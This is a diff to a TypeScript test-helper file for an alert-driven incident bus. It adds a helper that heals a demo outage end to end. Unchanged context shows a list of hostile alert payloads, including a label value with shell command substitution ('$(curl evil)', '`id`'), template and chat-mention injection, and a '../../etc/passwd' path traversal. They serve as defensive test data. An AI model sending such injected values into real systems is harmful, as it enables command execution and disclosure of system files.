@@ -1,6 +1,8 @@
 // Alerts and playbooks for the bus tests (test/integration/bus-*.test.ts, test/reliability/bus-crash.test.ts).
 import type { Playbook } from '../../src/playbooks/schema.js';
-import { testPlaybook } from './fixtures.js';
+import type { IncidentStatus } from '../../workflows/contracts.js';
+import { demoPlaybook, testPlaybook } from './fixtures.js';
+import { incidentIdFrom, type Medic } from './medic.js';
 
 /** Incidents that hold at an approval nobody gives: they stay open and absorb every alert sent. */
 export function heldPlaybook(name: string, alertname: string): Playbook {
@@ -32,4 +34,13 @@ export function hostilePayloads(alertname: string, service: string): { name: str
     // Accepted by both: label injection is data, rendered per context downstream.
     { name: 'label injection (accepted as data)', route: 'alertmanager', body: am({ instance: '$(curl evil)|`id`;\n<!channel> {{secret.X}}', pod: '../../etc/passwd' }) },
   ];
+}
+
+/** One demo outage healed end to end by playbook `name` (the lifecycle the events-out tests read
+ * back from the bus): returns the incident's resolved status. */
+export async function resolvedDemoIncident(medic: Medic, name: string, service: string): Promise<IncidentStatus> {
+  medic.demo.state.fault = 'outage';
+  medic.playbooks.push(demoPlaybook(medic.demo.url, { name }));
+  const id = await incidentIdFrom(await medic.postAlerts('firing', { alertname: 'DemoServiceDown', service, severity: 'critical' }));
+  return medic.waitFor(id, (s) => s.status === 'resolved', 60_000);
 }
